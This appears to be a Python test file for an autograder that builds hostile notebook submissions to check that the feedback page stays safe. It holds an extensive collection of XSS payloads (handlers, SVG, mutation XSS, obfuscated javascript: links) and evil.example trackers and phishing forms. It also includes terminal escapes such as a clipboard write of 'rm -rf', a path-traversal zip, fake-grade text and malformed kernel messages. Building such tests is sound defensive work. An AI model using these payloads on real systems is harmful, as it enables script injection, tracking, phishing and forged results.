"""Attacks through what is shown: scripts, addresses, terminal escapes, and outputs too large or too deep."""

import base64
import io
import json
import zipfile

from tests.autograder.hostile.hand_in import FIRST, RIGHT, SECOND, HandIn, notebook, running, save, text

ALIVE = "something in the feedback page could act"
LOST = "the row or the page is lost"


def _output(name, what, attack, evidence=ALIVE, **more):
    return running(name, what, "output", 3.0, evidence, attack, second=RIGHT[SECOND], **more)


def _shown(name, what, kind, payload):
    """Return a hand-in that displays `payload` as the MIME type `kind`, in an answer, in a test and as an error."""
    first = f"PAYLOAD = {payload!r}\n" + '''
def mean_price(prices):
    from IPython.display import display
    display({KIND: PAYLOAD}, raw=True)
    return None
'''.replace("KIND", repr(kind))
    attack = f'from IPython.display import display\ndisplay({{{kind!r}: {payload!r}, "text/plain": "x"}}, raw=True)'
    return running(name, what, "output", 3.0, ALIVE, attack, first=first, second=RIGHT[SECOND])


def _written(name, what, *cells, **metadata):
    """Return a hand-in with Markdown cells of the student's own, and the same text in the answer as a comment."""

    def build(folder, world):
        made = notebook(world, {FIRST: "def mean_price(prices):\n    return None\n", SECOND: RIGHT[SECOND]})
        made["cells"][1:1] = [text(cell, f"own-{n}") if isinstance(cell, str) else cell for n, cell in enumerate(cells)]
        for cell in made["cells"][-3:]:
            if cell["cell_type"] == "markdown":
                cell["source"] += "\n" + str(cells[0])
        made["metadata"].update(metadata)
        save(folder, made)

    return HandIn(name, what, "output", 3.0, build, ALIVE)


def _run(name):
    return f"document.documentElement.dataset.pwned='{name}'"


def _zip():
    """Return a small zip as base64: what an attachment should not be."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("../../planted.txt", "x")
    return base64.b64encode(packed.getvalue()).decode()


SVG = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_run("svg")}"><script>{_run("svg")}</script>'
       f'<a xlink:href="javascript:{_run("svg")}"><text y="20">x</text></a><animate onbegin="{_run("svg")}" '
       f'attributeName="x" dur="1s"/><foreignObject><iframe src="javascript:{_run("svg")}"></iframe>'
       '</foreignObject></svg>')
HANDLERS = (f'<img src=x onerror="{_run("handler")}"><details open ontoggle="{_run("handler")}">x</details>'
            f'<input autofocus onfocus="{_run("handler")}"><video><source onerror="{_run("handler")}"></video>'
            f'<body onload="{_run("handler")}"><marquee onstart="{_run("handler")}">x</marquee>'
            f'<div onpointerover="{_run("handler")}" style="position:fixed;inset:0">x</div>')
MUTATION = (f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
            f'onerror={_run("mutation")}&gt;"></style></mglyph></table></mtext></math>'
            f'<noscript><p title="</noscript><img src=x onerror={_run("mutation")}>">'
            f'<svg></p><style><a id="</style><img src=1 onerror={_run("mutation")}>">')
FRAMES = (f'<iframe srcdoc="<script>parent.{_run("frame")}</script>"></iframe>'
          '<iframe src="https://evil.example/"></iframe>'
          f'<object data="data:text/html,<script>{_run("frame")}</script>"></object><embed src="//evil.example/x.swf">'
          '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">'
          '<link rel="stylesheet" href="https://evil.example/x.css"><form action="https://evil.example/"><button>Log in'
          '</button></form><frameset><frame src="https://evil.example/"></frameset>')
ADDRESSES = (f'<a href="javascript:{_run("address")}">click</a>'
             f'<a href=" &#106;ava&#9;script:{_run("address")}">click</a>'
             f'<a href="data:text/html;base64,{base64.b64encode(b"<script>1</script>").decode()}">click</a>'
             f'<area href="vbscript:x"><a href="x" ping="https://evil.example/">click</a>')
TRACKERS = ('<img src="https://evil.example/seen.png"><img srcset="//evil.example/2x.png 2x">'
            '<video poster="http://evil.example/p.png"></video>'
            '<div style="background:url(https://evil.example/b.png)">x</div><style>@import '
            '"https://evil.example/s.css";</style><audio src="https://evil.example/a.mp3" autoplay></audio>'
            '<svg><image xlink:href="https://evil.example/i.png"/><use href="https://evil.example/u.svg#x"/></svg>')
DRESSED = ('<style>body{display:none}.points::after{content:"5 of 5"}</style>'
           '<div style="position:fixed;inset:0;z-index:999;background:white">Your grade: A</div>'
           '</pre></div></div></body></html><h1>Grade: A</h1>')

CASES = [
    _shown("o01-script", "a script in an HTML output", "text/html", f"<script>{_run('script')}</script><b>x</b>"),
    _shown("o02-handlers", "event handlers of many elements", "text/html", HANDLERS),
    _shown("o03-svg", "scripts inside an SVG picture", "image/svg+xml", SVG),
    _shown("o04-svg-html", "the same SVG inside HTML", "text/html", SVG),
    _shown("o05-javascript", "an output that is JavaScript by its type", "application/javascript", _run("javascript")),
    _shown("o06-markdown", "a script in a Markdown output", "text/markdown",
           f"<script>{_run('md')}</script>\n[x](javascript:{_run('md')})\n"
           f"![x](x\" onerror=\"{_run('md')})\n\n{HANDLERS}"),
    _shown("o07-latex", "a script in a LaTeX output, MathJax's own commands", "text/latex",
           f"$\\href{{javascript:{_run('latex')}}}{{x}} \\unicode{{<script>{_run('latex')}</script>}}$ </script>"
           f"{HANDLERS}"),
    _shown("o08-mutation", "HTML that becomes a script when it is cleaned and parsed again (MathML, noscript)",
           "text/html", MUTATION),
    _shown("o09-frames", "frames, objects, forms, base and refresh", "text/html", FRAMES),
    _shown("o10-addresses", "addresses that run: javascript:, data:, with entities and tabs", "text/html", ADDRESSES),
    _shown("o11-trackers", "pictures, styles and fonts from elsewhere, which tell who looked", "text/html", TRACKERS),
    _shown("o12-dressed", "styles and closing tags that rewrite the page: a better grade is shown", "text/html",
           DRESSED),
    _shown("o13-png", "a PNG whose bytes are a closing quote and a script", "image/png",
           f'x"><script>{_run("png")}</script><img src="'),
    _shown("o14-widget", "a widget and a Vega picture, which viewers run", "application/vnd.jupyter.widget-view+json",
           {"model_id": f"</script><script>{_run('widget')}</script>", "version_major": 2}),
    _shown("o15-plain", "tags in plain text", "text/plain", f"</pre><script>{_run('plain')}</script>{HANDLERS}"),
    _output("o16-stream", "tags, ANSI and terminal escapes in printed text", '''
print("</pre><script>%s</script>")
print("\\x1b]0;owned\\x07\\x1b[2J\\x1b]52;c;cm0gLXJm\\x07\\x1b]8;;javascript:1\\x07click\\x1b]8;;\\x07")
print("\\x1b[31m\\x1bP+q\\x1b\\\\")
print("\\x1b[38;5;1\\" onmouseover=\\"1m", "\\x9b31m", "\\u202eevil\\u2066", "\\x00\\x08\\x7f")
'''.replace("%s", _run("stream"))),
    _output("o17-error", "tags and ANSI in the name, the message and the traceback of an error", f'''
class X(Exception):
    def _render_traceback_(self): return ["</pre><script>{_run('error')}</script>", "\\x1b[31m<img src=x onerror=1>"]
X.__name__ = "<script>{_run('error')}</script>"
raise X("</pre><img src=x onerror={_run('error')}>")
'''),
    _output("o18-error-in-test", "the same error, raised inside the tests", "", first=f'''
def mean_price(prices):
    class X(Exception):
        pass
    X.__name__ = X.__qualname__ = "</pre><script>{_run('test')}</script>"
    raise X("<img src=x onerror={_run('test')}>\\x1b]0;owned\\x07")
'''),
    _output("o19-update", "display updates with a script that replace an earlier harmless output", f'''
from IPython.display import display, HTML
handle = display(HTML("<b>fine</b>"), display_id="one")
handle.update(HTML("<script>{_run('update')}</script>"))
'''),
    _output("o20-deep", "an output nested nine hundred deep", '''
from IPython.display import display
inner = []
for _ in range(900):
    inner = [inner]
display({"application/json": inner, "text/plain": "deep"}, raw=True)
''', LOST),
    _output("o21-raw-message", "a message of sixty thousand levels, sent past the kernel's own encoder", '''
kernel = get_ipython().kernel
session = kernel.session
deep = b'{"data": {"application/json": ' + b"[" * 60000 + b"]" * 60000 + b'}, "metadata": {}}'
parts = session.serialize(session.msg("display_data", content={}, parent=kernel.get_parent("shell")))
parts[-1] = deep
parts[2] = session.sign(parts[3:])
kernel.iopub_socket.send_multipart(parts)
''', LOST),
    _output("o22-large", "one output of a hundred megabytes", '''
from IPython.display import display
display({"text/html": "<p>x</p>" * 13_000_000}, raw=True)
''', LOST),
    _output("o23-odd-types", "outputs whose types are none: numbers, lists, null, surrogates, nan", '''
kernel = get_ipython().kernel
for content in ({"data": {"text/plain": 5}, "metadata": {}}, {"data": {"text/html": ["a", 1, None]}, "metadata": []},
                {"data": None, "metadata": {}}, {"data": {"image/png": {"a": 1}}, "metadata": {}}, {"data": [], "x": 1},
                {"data": {"text/plain": "\\ud800"}, "metadata": {"a": float("nan")}}, {}, {"data": {"": ""}}):
    try:
        kernel.session.send(kernel.iopub_socket, "display_data", content, parent=kernel.get_parent("shell"))
    except Exception as error:
        print(error)
kernel.session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": None}, parent=kernel.get_parent("shell"))
kernel.session.send(kernel.iopub_socket, "error", {"ename": 1, "evalue": None, "traceback": "x"},
                    parent=kernel.get_parent("shell"))
kernel.session.send(kernel.iopub_socket, "no_such_message", {"x": 1}, parent=kernel.get_parent("shell"))
''', LOST),
    _output("o24-broken-messages", "messages that are no JSON, unsigned, of one part and of a thousand", '''
kernel = get_ipython().kernel
for parts in ([b""], [b"x"] * 1000, [b"<IDS|MSG>"], [b"stream", b"<IDS|MSG>", b"sig", b"{}", b"{}", b"{}", b"{"],
              [b"\\xff\\xfe"] * 6):
    kernel.iopub_socket.send_multipart(parts)
''', LOST),
    _output("o25-bidirectional", "text whose direction and look-alike letters show another grade", '''
print("Grade: \\u202eF\\u202c A \\u2067 5/5 \\u2069 \\ufeff\\u200b\\u00ad" * 20)
print("\\r\\x1b[1A\\x1b[2KPassed 5 of 5")
'''),
    _written("o30-markdown-script", "a script in a Markdown cell", f"<script>{_run('cell')}</script>\n\n{HANDLERS}",
             f"[a](javascript:{_run('cell')}) <javascript:{_run('cell')}> ![b](https://evil.example/t.png)", SVG,
             FRAMES, ADDRESSES),
    _written("o31-markdown-math", "formulas that break out of their place",
             f"$x </script><script>{_run('math')}</script>$ $$\\href{{javascript:{_run('math')}}}{{x}}$$ "
             f"$\\text{{</math><img src=x onerror={_run('math')}>}}$ \\begin{{align}}<script>1</script>\\end{{align}}",
             MUTATION, TRACKERS, DRESSED),
    _written("o32-attachments", "attachments that are SVG, HTML and a zip, with names that are tags",
             text("![x](attachment:a.svg) ![y](attachment:b.png) [z](attachment:c.zip) "
                  "![w](attachment:\"><script>1</script>)", "own-a", attachments={
                      "a.svg": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()},
                      "b.png": {"image/png": f'"><script>{_run("attachment")}</script>',
                                "text/html": base64.b64encode(HANDLERS.encode()).decode()},
                      "c.zip": {"application/zip": _zip()},
                      f'"><script>{_run("attachment")}</script>': {"image/png": "iVBORw0KGgo="}})),
    _written("o33-metadata", "tags in metadata: title, authors, language, highlighter, tags",
             {**text("x", "own-m"), "metadata": {"tags": [f'"><script>{_run("metadata")}</script>'],
                                                 "slideshow": {"slide_type": f"</script>{HANDLERS}"}}},
             title=f"</title><script>{_run('metadata')}</script>",
             authors=[{"name": f"<script>{_run('metadata')}</script>"}],
             language_info={"name": f'"><script>{_run("metadata")}</script>', "file_extension": ".py",
                            "pygments_lexer": "</style><script>1</script>"},
             widgets={"application/vnd.jupyter.widget-state+json": {"state": {
                 "x": {"model_name": f"</script><script>{_run('metadata')}</script>"}}, "version_major": 2}}),
    _written("o34-raw-cells", "raw cells that say they are HTML",
             {"cell_type": "raw", "id": "own-raw", "metadata": {"format": "text/html", "raw_mimetype": "text/html"},
              "source": f"<script>{_run('raw')}</script>{HANDLERS}{FRAMES}"}),
]


def _baked(folder, world):
    made = notebook(world, {FIRST: "def mean_price(prices):\n    return None\n", SECOND: RIGHT[SECOND]})
    for cell in made["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "display_data", "metadata": {}, "data": {
                "text/html": f"<script>{_run('baked')}</script>{HANDLERS}", "application/javascript": _run("baked")}}]
            cell["execution_count"] = 1
    save(folder, made)


def _comment(folder, world):
    source = f"# </pre></code><script>{_run('comment')}</script>{HANDLERS}\ndef mean_price(prices):\n    return None\n"
    made = notebook(world, {FIRST: source, SECOND: RIGHT[SECOND]},
                    after=[f'"""</div><script>{_run("comment")}</script>"""', f"# {json.dumps(FRAMES)}"])
    save(folder, made)


CASES += [
    HandIn("o40-baked", "outputs with scripts that are in the file already", "output", 3.0, _baked, ALIVE),
    HandIn("o41-source", "tags in the source of answers and of cells of its own", "output", 3.0, _comment, ALIVE),
]
